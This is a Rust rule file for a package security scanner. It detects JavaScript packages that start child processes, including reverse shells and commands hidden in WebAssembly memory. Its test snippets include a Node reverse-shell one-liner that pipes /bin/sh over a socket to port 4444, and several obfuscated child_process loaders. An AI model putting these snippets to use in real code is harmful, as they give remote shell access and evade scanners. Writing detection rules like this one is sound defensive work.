//! Rule `child-process`.

use crate::model::Severity;
use crate::package::Package;
use crate::rules::{Emitter, code_files};

crate::declare_rule! {
    /// The code starts other programs (child_process exec/spawn/fork, execa, cross-spawn). Normal
    /// in build tools and CLIs (`low` there), worth a look in library code, `high` at install
    /// time, and `critical` when a shell is wired to a network socket (a reverse shell) or the
    /// command is read out of WebAssembly memory (a payload hidden in a wasm data segment).
    id: "child-process",
    category: Exec,
    severity: Medium,
    capability: Some(crate::model::Capability::ChildProcess),
    title: "starts child processes",
    incident: "ethers-provider2 (2025) piped /bin/sh to a net.Socket; coa/ua-parser-js (2021) ran droppers via child_process",
    case_file: "lib/index.js",
    flag: ["const cp = require('child_' + 'process'); cp.exec(cmd)",
           "const a = [99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115].map((c) => String.fromCharCode(c)).join(''); const cp = require(a); cp[['sp', 'awn'].join('')](dst, [])",
           "const n = [99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115].map(function (c) { return String.fromCharCode(c) }).join(''); require(n).exec(x)",
           "import { spawn } from 'node:child_process'; spawn('sh', ['-c', x])",
           "const cp = process.getBuiltinModule(['child', 'process'].join('_')); cp.execFile('/bin/sh', ['-c', x])",
           "const cp = process.getBuiltinModule?.('node:child_process'); cp.exec(x)",
           "const cp = require('child_process'); let mem; const imports = { env: { run(p, n) { cp.exec(Buffer.from(mem.buffer, p, n).toString()) } } }; WebAssembly.instantiate(bytes, imports)",
           "const net = require('net'); const {spawn} = require('child_process'); const c = new net.Socket(); c.connect(4444, h, () => { const sh = spawn('/bin/sh', []); c.pipe(sh.stdin); sh.stdout.pipe(c); });"],
    pass: ["const cp = { exec() {} }; cp.exec('x')",
           "const fs = process.getBuiltinModule('fs'); fs.readFileSync(p)",
           "const a = [99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115].map((c) => String.fromCharCode(c + 1)).join(''); require(a).exec(x)", "// require('child_process').exec(x)", "const s = 'child_process.exec is documented here'"],
}

const SHELLS: &[&str] = &[
    "/bin/sh",
    "/bin/bash",
    "sh",
    "bash",
    "cmd.exe",
    "cmd",
    "powershell",
    "powershell.exe",
    "pwsh",
    "/bin/zsh",
    "zsh",
];

fn check(pkg: &Package, out: &mut Emitter) {
    for f in code_files(pkg) {
        let Some(js) = &f.js else { continue };
        let Some(call) = js.calls.iter().find(|c| super::is_spawn(&c.path)) else {
            continue;
        };
        let socket = js.calls.iter().any(|c| {
            matches!(
                c.path.as_str(),
                "net.Socket" | "net.connect" | "net.createConnection" | "tls.connect"
            )
        }) && (js.calls.iter().any(|c| {
            super::is_spawn(&c.path) && c.arg_lit(0).is_some_and(|a| SHELLS.contains(&a))
        }) || crate::rules::all_text(f).contains("/bin/sh"));
        // A command read out of WebAssembly memory: the program to run is hidden in a wasm data
        // segment and handed to a host function.
        let wasm = f.text.contains("WebAssembly.") && {
            let reads =
                crate::regex!(r"\.buffer\s*,\s*\w+\s*,\s*\w+\)|new Uint8Array\(\s*[\w.]*\.buffer");
            // The memory read feeds the command: both within a few lines.
            reads.find_iter(&f.text).any(|m| {
                js.calls.iter().any(|c| {
                    super::is_spawn(&c.path)
                        && c.args.first().is_some_and(|a| a.lit.is_none())
                        && (c.off as usize).abs_diff(m.start()) < 300
                })
            })
        };
        let (sev, msg) = if wasm {
            (
                Severity::Critical,
                "runs a command read out of WebAssembly memory".to_string(),
            )
        } else if socket {
            (
                Severity::Critical,
                "starts a shell wired to a network socket (reverse shell)".to_string(),
            )
        } else if pkg.is_install_file(f) {
            (
                Severity::High,
                format!("code run at install time starts processes ({})", call.path),
            )
        } else if pkg.is_tool_file(f) {
            (
                Severity::Low,
                format!("command-line code starts processes ({})", call.path),
            )
        } else {
            (
                Severity::Medium,
                format!("starts processes ({})", call.path),
            )
        };
        out.hit_sev(sev, pkg, f, call.off, msg);
    }
}
